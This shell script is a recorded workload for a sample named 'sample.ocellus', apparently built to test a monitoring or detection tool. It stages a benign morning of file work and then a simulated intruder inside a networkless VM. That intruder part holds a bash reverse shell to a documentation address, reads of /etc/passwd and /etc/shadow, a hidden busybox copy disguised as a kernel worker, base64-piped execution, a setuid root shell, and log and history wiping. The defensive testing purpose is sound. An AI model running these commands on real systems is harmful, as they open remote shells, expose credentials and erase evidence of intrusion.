#!/bin/sh
# The workload of sample.ocellus: an ordinary morning, and an intruder. It was recorded in a small
# virtual machine (busybox in an initramfs, no network), so that the recording holds nothing of
# anybody's host. Addresses are those of documentation (RFC 5737).
set -u
mkdir -p /srv/www /usr/sbin /var/log /tmp /dev/shm /root /home/dev /etc/ssh

# An ordinary morning: a build, a backup, some looking around.
for n in 1 2 3 4 5 6 7 8; do
	echo "line $n" > "/srv/www/page-$n.html"
	sed -e 's/line/page/' "/srv/www/page-$n.html" > /dev/null
	grep -c page "/srv/www/page-$n.html" > /dev/null
done
ls -l /srv/www | sort | head -3 > /dev/null
dd if=/dev/zero of=/srv/www/backup bs=1024 count=64 2> /dev/null
md5sum /srv/www/backup > /srv/www/backup.md5
cat /etc/passwd | wc -l > /dev/null
su nobody -s /bin/sh -c 'id; uname -a; ps' > /dev/null 2>&1
sh -c 'exit 3'
(sleep 0.3 & wait)
sh -c 'kill -9 $$'

# A web server that is talked into a shell.
cp /bin/busybox /usr/sbin/nginx
cat > /srv/www/cgi.sh <<'EOF'
sh -c 'id; cat /etc/passwd' > /dev/null
sh -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' 2> /dev/null
EOF
/usr/sbin/nginx sh /srv/www/cgi.sh

# The intruder looks for secrets, brings a tool along and hides it.
cat /etc/shadow > /dev/null 2>&1
cp /bin/busybox /dev/shm/.x
/dev/shm/.x true
cp /bin/busybox /tmp/kworker
sh -c 'exec -a "[kworker/0:1]" /tmp/kworker sleep 0.2' 2> /dev/null
sh -c 'echo aWQK | base64 -d | sh' > /dev/null
cp /bin/busybox /tmp/rootsh && chmod 4755 /tmp/rootsh
su nobody -s /bin/sh -c '/tmp/rootsh id' > /dev/null 2>&1

# And wipes the traces.
echo "accepted password for root" > /var/log/auth.log
rm -f /var/log/auth.log
sh -c 'unset HISTFILE; HISTFILE=/dev/null true'
rm -f /dev/shm/.x /tmp/kworker /tmp/rootsh
sleep 0.5
